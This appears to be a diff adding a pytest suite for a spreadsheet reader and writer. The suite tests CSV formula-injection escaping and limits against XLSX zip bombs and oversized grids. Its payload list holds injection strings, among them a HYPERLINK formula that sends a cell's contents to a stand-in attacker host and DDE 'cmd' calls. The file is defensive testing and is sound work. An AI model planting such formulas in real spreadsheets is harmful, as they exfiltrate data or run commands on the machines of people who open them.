@@ -1,0 +1,276 @@
+"""The cells of a sheet (:mod:`ledarskap.io._sheets`): bounded work, and no formula injection."""
+
+from __future__ import annotations
+
+import io
+import re
+import time
+import zipfile
+from collections.abc import Callable
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from ledarskap.errors import DocumentError, InvalidValueError
+from ledarskap.io import _sheets
+from ledarskap.io._sheets import (
+    MAX_CELL,
+    MAX_COLUMNS,
+    MAX_ROWS,
+    escape_cell,
+    read_csv_rows,
+    read_xlsx_rows,
+    unescape_cell,
+    write_csv,
+    write_xlsx,
+)
+
+openpyxl = pytest.importorskip("openpyxl")
+
+HEADER = ["Förnamn", "Efternamn", "Kommun"]
+# Text an XLSX cell can hold: no control characters but tab and line breaks (XML 1.0).
+XLSX_TEXT = st.text(
+    st.characters(exclude_categories=["Cs"], exclude_characters="\x00\r").filter(
+        lambda c: c in "\t\n" or ord(c) >= 0x20
+    )
+)
+
+
+# Formula injection ------------------------------------------------------------------------
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_cell_a_program_would_run_is_written_as_text(payload: str) -> None:
+    """OWASP: a cell beginning with = + - @ tab or CR gets a leading ' (shown as text)."""
+    assert escape_cell(payload) == "'" + payload
+    content = write_csv([HEADER, [payload, "x", "y"]]).decode("utf-8-sig")
+    second_line = content.split("\r\n", 1)[1]
+    assert second_line.lstrip('"').startswith("'")
+    assert read_csv_rows(write_csv([HEADER, [payload, "x", "y"]]), "s")[1][0] == payload
+
+
+@pytest.mark.parametrize(
+    ("cell", "escaped"),
+    [("Anna", "Anna"), ("", ""), ("'", "'"), ("'Anna", "'Anna"), ("'=1", "''=1"), ("a=1", "a=1")],
+)
+def test_exactly_the_cells_that_need_it_are_escaped(cell: str, escaped: str) -> None:
+    assert escape_cell(cell) == escaped
+    assert unescape_cell(escaped) == cell
+
+
+def test_a_cell_escaped_by_hand_in_another_program_reads_without_its_quote() -> None:
+    """The rule is documented: a leading ' before a formula character is the escape."""
+    assert read_csv_rows(b"a;b\r\n'=1+1;'+46 70\r\n", "s")[1] == ["=1+1", "+46 70"]
+
+
+@given(st.text())
+def test_escaping_reads_back_to_the_text(text: str) -> None:
+    """Law: unescape_cell(escape_cell(t)) == t for every text t."""
+    assert unescape_cell(escape_cell(text)) == text
+
+
+@given(st.lists(st.lists(st.text().filter(lambda t: "\x00" not in t), min_size=1), max_size=5))
+def test_csv_reads_back_every_text_written(rows: list[list[str]]) -> None:
+    """Law: rows under a header written as CSV read back as the same rows of the same text."""
+    written = [HEADER, *rows]
+    assert read_csv_rows(write_csv(written), "s") == written
+
+
+@settings(max_examples=25, deadline=None)
+@given(st.lists(st.lists(XLSX_TEXT, min_size=1, max_size=4), max_size=3))
+def test_xlsx_reads_back_every_text_written(rows: list[list[str]]) -> None:
+    """Law: rows written as XLSX read back as the same text.
+
+    Empty cells at the end of a row, and empty rows at the end of the sheet, are not read
+    (an XLSX file does not hold them); XML turns a carriage return into a line feed, so
+    texts here hold none.
+    """
+    written = [HEADER, *rows]
+    expected = [row[: max((i + 1 for i, c in enumerate(row) if c), default=0)] for row in written]
+    while not expected[-1]:
+        expected.pop()
+    assert read_xlsx_rows(write_xlsx(written, title="t"), "s") == expected
+
+
+def test_an_xlsx_cell_cannot_hold_a_control_character() -> None:
+    with pytest.raises(InvalidValueError, match="row 2, column 1: expected text without control"):
+        write_xlsx([HEADER, ["a\x01b"]], title="deltagare")
+
+
+# Bounded work -----------------------------------------------------------------------------
+
+
+def patched_xlsx(sheet_xml: Callable[[str], str]) -> bytes:
+    """A workbook with a header, its worksheet's XML changed by *sheet_xml*."""
+    book = openpyxl.Workbook()
+    book.active.append(HEADER)
+    buffer = io.BytesIO()
+    book.save(buffer)
+    out = io.BytesIO()
+    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = sheet_xml(data.decode()).encode()
+            zf.writestr(item, data)
+    return out.getvalue()
+
+
+def claim(xml: str, dimension: str) -> str:
+    return re.sub(r'<dimension ref="[^"]*" ?/>', f'<dimension ref="{dimension}"/>', xml)
+
+
+def cell_at(xml: str, ref: str, row: int, *, value: str = "x") -> str:
+    cell = (
+        f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'
+        if value
+        else f'<c r="{ref}" s="0"/>'
+    )
+    return xml.replace("</sheetData>", f'<row r="{row}">{cell}</row></sheetData>')
+
+
+def timed(read: Callable[[], object]) -> tuple[object, float]:
+    start = time.perf_counter()
+    try:
+        result: object = read()
+    except DocumentError as error:
+        result = error
+    return result, time.perf_counter() - start
+
+
+def test_a_cell_at_the_grids_end_is_refused_at_once() -> None:
+    """A 5 KB file with one cell at XFD1048576 (and a dimension claiming the whole grid)."""
+    content = patched_xlsx(lambda xml: cell_at(claim(xml, "A1:XFD1048576"), "XFD1048576", 1048576))
+    assert len(content) < 10_000
+    error, seconds = timed(lambda: read_xlsx_rows(content, "bomb.xlsx"))
+    assert isinstance(error, DocumentError)
+    assert str(error.problems[0]) == (
+        f"bomb.xlsx, row 1048576: a sheet may have at most {MAX_ROWS:,} rows"
+    )
+    assert seconds < 2
+
+
+def test_a_dimension_claiming_the_whole_grid_costs_nothing() -> None:
+    content = patched_xlsx(lambda xml: claim(xml, "A1:XFD1048576"))
+    rows, seconds = timed(lambda: read_xlsx_rows(content, "s"))
+    assert rows == [HEADER]
+    assert seconds < 2
+
+
+def test_a_cell_outside_the_claimed_dimension_is_read_not_dropped() -> None:
+    content = patched_xlsx(lambda xml: cell_at(claim(xml, "A1:C1"), "B3", 3))
+    assert read_xlsx_rows(content, "s") == [HEADER, [], ["", "x"]]
+
+
+def test_empty_styled_cells_far_out_are_not_a_grid() -> None:
+    def styled(xml: str) -> str:
+        rows = "".join(f'<row r="{n}"><c r="XFD{n}" s="0"/></row>' for n in range(2, 20_000))
+        return xml.replace("</sheetData>", rows + "</sheetData>")
+
+    rows, seconds = timed(lambda: read_xlsx_rows(patched_xlsx(styled), "s"))
+    assert rows == [HEADER]
+    assert seconds < 5
+
+
+def test_a_value_beyond_the_last_column_allowed_is_refused() -> None:
+    content = patched_xlsx(lambda xml: cell_at(xml, "XFD2", 2))
+    with pytest.raises(DocumentError, match=r"row 2: a value in column 16,384: .* at most 200"):
+        read_xlsx_rows(content, "s")
+
+
+def test_a_cell_longer_than_excel_allows_is_refused_in_xlsx() -> None:
+    content = patched_xlsx(lambda xml: cell_at(xml, "A2", 2, value="x" * (MAX_CELL + 1)))
+    with pytest.raises(DocumentError, match=r"32,768 characters in column 1: .* at most 32,767"):
+        read_xlsx_rows(content, "s")
+
+
+def test_an_xlsx_that_unpacks_to_more_than_the_limit_is_refused(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    content = patched_xlsx(lambda xml: xml)
+    monkeypatch.setattr(_sheets, "MAX_UNPACKED", 1000)
+    with pytest.raises(DocumentError, match=r"the file unpacks to [\d,]+ bytes: .* at most 1,000"):
+        read_xlsx_rows(content, "s")
+
+
+def test_a_row_with_more_cells_than_a_worksheet_has_columns_is_refused_as_it_is_read() -> None:
+    """16,385 empty cells in one row: refused without holding the row in memory."""
+    content = patched_xlsx(
+        lambda xml: xml.replace(
+            "</sheetData>", '<row r="2">' + '<c s="0"/>' * 16_385 + "</row></sheetData>"
+        )
+    )
+    with pytest.raises(DocumentError, match="row 2: more than 16,384 cells in one row"):
+        read_xlsx_rows(content, "s")
+
+
+def test_cells_without_coordinates_are_placed_one_after_the_other() -> None:
+    cells = '<c t="inlineStr"><is><t>a</t></is></c><c/><c t="inlineStr"><is><t>b</t></is></c>'
+    content = patched_xlsx(
+        lambda xml: xml.replace("</sheetData>", f"<row>{cells}</row></sheetData>")
+    )
+    assert read_xlsx_rows(content, "s") == [HEADER, ["a", "", "b"]]
+
+
+def test_a_part_that_unpacks_more_than_a_hundredfold_is_refused() -> None:
+    """Apache POI's zip-bomb check: a part over 1 MiB may unpack at most 100-fold."""
+    bomb = '<row><c s="0"/></row>' * 100_000
+    content = patched_xlsx(lambda xml: xml.replace("</sheetData>", bomb + "</sheetData>"))
+    with pytest.raises(
+        DocumentError, match=r"sheet1\.xml unpacks [\d,]+-fold: .* at most 100-fold"
+    ):
+        read_xlsx_rows(content, "s")
+
+
+def test_a_damaged_worksheet_is_a_document_error() -> None:
+    content = patched_xlsx(lambda xml: xml.replace("</sheetData>", "<row r='x'></row></sheetData>"))
+    with pytest.raises(DocumentError, match=r"a damaged worksheet \(ValueError\)"):
+        read_xlsx_rows(content, "s")
+
+
+def test_a_csv_file_larger_than_the_limit_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(_sheets, "MAX_UNPACKED", 9)
+    with pytest.raises(DocumentError, match="a CSV file may hold at most 9 bytes"):
+        read_csv_rows(b"a;b\r\n1;2\r\n", "s")
+
+
+def test_csv_rows_up_to_the_limit_are_read_and_beyond_it_refused() -> None:
+    lines = "a;b\r\n" + "1;2\r\n" * (MAX_ROWS - 1)
+    assert len(read_csv_rows(lines.encode(), "s")) == MAX_ROWS
+    with pytest.raises(DocumentError, match=r"s, row 100,001|s, row 100001"):
+        read_csv_rows((lines + "1;2\r\n").encode(), "s")
+
+
+def test_csv_columns_beyond_the_limit_are_refused_only_with_a_value() -> None:
+    wide = ";".join(["a"] * MAX_COLUMNS) + ";" * 50 + "\r\n"
+    assert len(read_csv_rows(wide.encode(), "s")[0]) == MAX_COLUMNS
+    with pytest.raises(DocumentError, match="a value in column 201: a sheet may use at most 200"):
+        read_csv_rows((wide.rstrip(";\r\n") + ";x\r\n").encode(), "s")
+
+
+@pytest.mark.parametrize("length", [MAX_CELL + 1, 200_000])
+def test_a_csv_cell_longer_than_excel_allows_is_refused(length: int) -> None:
+    with pytest.raises(DocumentError, match=r"row 2: .*a cell may hold at most 32,767"):
+        read_csv_rows(f"a;b\r\n{'x' * length};y\r\n".encode(), "s")
+
+
+def test_a_cell_as_long_as_allowed_reads_in_time_linear_in_its_length() -> None:
+    """Reading a cell of n characters takes time proportional to n, not n²."""
+    small, large = MAX_CELL // 16, MAX_CELL
+
+    def seconds(length: int) -> float:
+        content = f"a;b\r\n{'=' * length};{'1 ' * (length // 2)}\r\n".encode()
+        return min(timed(lambda: read_csv_rows(content, "s"))[1] for _ in range(3))
+
+    assert seconds(large) < max(0.5, 64 * seconds(small))
